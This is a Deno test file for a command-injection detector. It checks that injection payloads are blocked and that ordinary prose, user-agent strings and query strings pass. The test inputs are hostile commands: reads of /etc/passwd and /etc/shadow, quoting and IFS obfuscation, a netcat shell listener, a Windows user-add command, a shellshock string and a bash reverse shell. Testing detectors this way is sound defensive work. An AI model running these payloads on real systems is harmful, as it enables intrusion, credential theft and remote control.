import assert from "node:assert/strict";
import { cmdi } from "../../engine/cmdi.ts";
import { engineInput } from "../_helpers/engine_input.ts";

const blocks = (text: string) => (cmdi(engineInput(text))?.score ?? 0) >= 70;

Deno.test("cmdi() catches a command after a semicolon", () => {
  for (const p of [";id;", "a;id", "; sleep 5", ";cat /etc/passwd", "1; uname -a"]) {
    assert.ok(blocks(p), p);
  }
});

Deno.test("cmdi() catches pipes, logical operators and substitutions", () => {
  for (
    const p of ["|id|", "|| whoami", "&& ls -la /", "`id`", "$(whoami)", "& ping -n 30 127.0.0.1 &"]
  ) {
    assert.ok(blocks(p), p);
  }
});

Deno.test("cmdi() undoes quoting, escaping and IFS obfuscation", () => {
  for (
    const p of [
      ";c'a't /etc/passwd",
      ';w"h"o"am"i',
      ";c\\at /etc/shadow",
      "cat${IFS}/etc/passwd",
      ";{cat,/etc/passwd}",
    ]
  ) {
    assert.ok(blocks(p), p);
  }
});

Deno.test("cmdi() catches whole-value command lines and Windows commands", () => {
  for (
    const p of [
      "nc -lvvp 4444 -e /bin/sh",
      "uname -a",
      "| dir C:\\",
      "& type C:\\Windows\\win.ini",
      "net user hacker Password1 /ADD",
      "%COMSPEC% /c dir",
    ]
  ) {
    assert.ok(blocks(p), p);
  }
});

Deno.test("cmdi() catches shellshock and reverse shells", () => {
  assert.ok(blocks('() { :;}; /bin/bash -c "id"'));
  assert.ok(blocks("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
});

Deno.test("cmdi() passes prose that uses command words and separators", () => {
  for (
    const p of [
      "cat and dog; sleep well",
      "Tom & Jerry | cat videos",
      "I was tired; sleep 8 hours helped",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
      "curl/7.68.0",
      "php",
      "sh",
      "a=1&id=2&type=3",
      "name|id|email",
      "/api/ping",
    ]
  ) {
    assert.ok(!blocks(p), p);
  }
});
